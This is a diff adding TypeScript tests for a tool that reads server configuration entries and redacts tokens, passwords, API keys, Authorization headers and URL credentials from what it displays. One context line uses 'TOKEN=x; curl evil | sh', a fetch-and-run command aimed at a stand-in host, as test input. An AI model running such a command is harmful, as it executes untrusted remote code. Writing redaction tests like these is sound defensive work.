@@ -76,6 +76,33 @@ test('what is shown of a server holds no credentials that its file writes out', 
   expect(args('-c', 'TOKEN=x; curl evil | sh')).toBe('srv -c TOKEN=x; curl evil | sh');
 });
 
+test.each<[string[], string]>([
+  [['--API-KEY', 'k'], 'srv --API-KEY …'],
+  [['--client-secret', 'k'], 'srv --client-secret …'],
+  [['-password', 'k'], 'srv -password …'],
+  [['--token', '--next', 'out'], 'srv --token --next out'],
+  [['--keys', 'out'], 'srv --keys out'],
+  [['SECRET=k', 'my_Token=k', 'x-api-key:k', 'PASSWORD:  k'], 'srv SECRET=… my_Token=… x-api-key:… PASSWORD:  …'],
+  [['Authorization: Basic k', 'authorization: bearer k'], 'srv Authorization: Basic … authorization: bearer …'],
+  [['redis://u:p@h:1/0', 'x=amqp+ssl://p@h', 'u@h', '//u@h'], 'srv redis://h:1/0 x=amqp+ssl://h u@h //u@h'],
+])('of the arguments %j is shown %j', (args, shown) => {
+  expect(read(file('/a', { s: { command: 'srv', args } })).entries[0]?.about).toBe(shown);
+});
+
+test('an address is shown without what follows its path, and every option of an entry is read', () => {
+  const about = (url: string) => read(file('/a', { s: { url } })).entries[0]?.about;
+  expect(['#k', '?a#k', '#a?k', '/p?k'].map((end) => about(`https://x.example${end}`))).toEqual([
+    ...['https://x.example', 'https://x.example', 'https://x.example', 'https://x.example/p'],
+  ]);
+  const url = 'https://x.example/';
+  const known = { url, headers: { a: 'b' }, resources: true, prompts: true };
+  expect(read(file('/a', { 'a.b_c d': { ...known, other: 1 } })).entries).toMatchObject([
+    { name: 'a-b-c-d', options: known },
+  ]);
+  for (const disabled of [false, 0, 'no', null, undefined])
+    expect(read(file('/a', { s: { url, disabled } })).entries[0]?.options).toEqual({ url });
+});
+
 test('an entry that cannot be used says why, and a file that is no list is named', () => {
   const { entries, problems } = read(
     file('/a', { off: { command: 'x', disabled: true }, old: { type: 'sse', url: 'https://x' } }),
